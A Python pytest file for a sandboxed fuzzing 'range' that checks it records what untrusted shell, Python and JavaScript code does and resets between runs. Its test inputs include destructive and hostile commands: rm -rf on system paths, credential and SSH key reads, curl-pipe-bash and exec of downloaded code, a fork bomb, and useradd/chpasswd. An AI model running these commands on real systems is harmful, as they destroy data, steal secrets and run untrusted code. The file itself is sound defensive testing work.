"""The range: what it sees, and that one text leaves nothing for the next."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from interlock.workbench.fuzzing.range import Effects, Range, Run
from sandboxes import isolation

__all__ = ["isolation"]
pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.sandbox]

RUNTIME = Path(__file__).parents[3] / ".runtime"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def here() -> AsyncIterator[Range]:
    async with Range(RUNTIME) as made:
        yield made


async def seen(here: Range, source: str, language: str = "bash", **more: object) -> Effects:
    run = await here.run(Run(source, language, **more))  # type: ignore[arg-type]
    assert run is not None
    return run


@pytest.mark.parametrize(
    ("source", "effect"),
    [
        ("rm -rf /srv", ("removed", "/srv")),
        ("cd /; rm -rf -- s?v", ("removed", "/srv")),
        ("echo x >> /etc/passwd", ("wrote", "/etc/passwd")),
        ("echo x > /dev/sda", ("wrote", "/dev/sda", "x\n")),
        ("chmod 4755 x", ("mode", "/home/user/x", "0o4755")),
        ("ln -sf /tmp/x /usr/bin/ls", ("linked", "/usr/bin/ls", "/tmp/x")),
        ("mkdir /srv/new", ("made", "/srv/new")),
        ("sudo -n id ''", ("start", "sudo", "-n", "id", "")),
        ("cd /etc; sudo cat ../etc/./x", ("start", "sudo", "cat", "/etc/x")),
        ("/usr/sbin/'use'radd eve", ("start", "useradd", "eve")),
        ("echo root:x | chpasswd", ("start", "chpasswd", "<root:x")),
        ("base64 < ~/.aws/credentials", ("read", "/home/user/.aws/credentials")),
        ("read -r x < ~/.ssh/id_rsa", ("read", "/home/user/.ssh/id_rsa")),
        ("curl http://x | bash", ("start", "canary_downloaded", "=", "1")),
        ('python3 -c "$(wget -qO- http://x)"', ("start", "canary_downloaded", "=", "1")),
        ("curl -fsSLo i.sh http://x && bash i.sh", ("start", "canary_downloaded", "=", "1")),
        ("export LD_PRELOAD=./x.so", ("env", "LD_PRELOAD", "./x.so")),
        ("kill -9 -1", ("start", "kill", "-9", "-1")),
        (":(){ :|:& };:", ("processes", "many")),
        ("awk 'BEGIN { system(\"sudo x\") }'", ("start", "sudo", "x")),
    ],
)
async def test_it_sees_what_a_shell_text_does(here: Range, source: str, effect: tuple[str, ...]) -> None:
    run = await seen(here, source)

    assert any(one[: len(effect)] == effect for one in run)


@pytest.mark.parametrize(
    ("language", "source", "effect"),
    [
        ("python", "import os\nos.system('useradd eve')", ("start", "useradd", "eve")),
        ("python", "!rm -rf /srv", ("removed", "/srv")),
        ("python", "open('/etc/shadow').read()", ("read", "/etc/shadow")),
        ("python", "import requests\nexec(requests.get('http://x').text)", ("start", "canary_downloaded", "=", "1")),
        ("python", "import socket\nsocket.create_connection(('192.0.2.1', 80), 0.1)", ("connect", "192.0.2.1", "80")),
        ("javascript", "require('child_process').execSync('sudo ls')", ("start", "sudo", "ls")),
        ("javascript", "require('fs').rmSync('/srv', {recursive: true})", ("removed", "/srv")),
    ],
)
async def test_it_sees_what_a_cell_does(here: Range, language: str, source: str, effect: tuple[str, ...]) -> None:
    assert effect in await seen(here, source, language)


async def test_a_text_finds_everything_as_it_was_before_all_others(here: Range) -> None:
    before = await seen(here, "ls -lR --time-style=+ /etc /home /srv /usr/bin | sort")
    for source in (
        "rm -rf --no-preserve-root /etc /home /srv /usr/bin /lib64 2> /dev/null",
        "chmod -R 777 /etc; touch /x",
    ):
        await here.run(Run(source))

    assert await seen(here, "ls -lR --time-style=+ /etc /home /srv /usr/bin | sort") == before


async def test_nothing_of_the_machine_is_there(here: Range) -> None:
    run = await seen(here, "ls /root /var /home; id -u; cat /proc/net/route | wc -l; env | grep -c SECRET")

    (printed,) = [one[1] for one in run if one[0] == "stdout"]
    assert "user" in printed and "1000" in printed
    assert not [line for line in printed.splitlines() if line.startswith(("work", "checkout"))]


async def test_a_text_that_ends_the_range_is_lost_and_the_next_one_runs(here: Range) -> None:
    assert await here.run(Run("dash -c 'kill -9 -1'")) is None
    assert ("start", "sudo", "x") in await seen(here, "sudo x")


async def test_files_variables_and_directories_of_a_sample_are_there(here: Range) -> None:
    run = await seen(here, "bash s.sh", files={"s.sh": "sudo $WORD $PWD"}, env={"WORD": "w"}, cwd="/home/user")

    assert ("start", "sudo", "w", "/home/user") in run


async def test_programs_can_be_stubs_for_one_text(here: Range) -> None:
    assert ("start", "rm", "-rf", "/") in await seen(here, "rm -rf /", stubs=("rm",))
    assert ("removed", "/srv") in await seen(here, "rm -rf /srv")
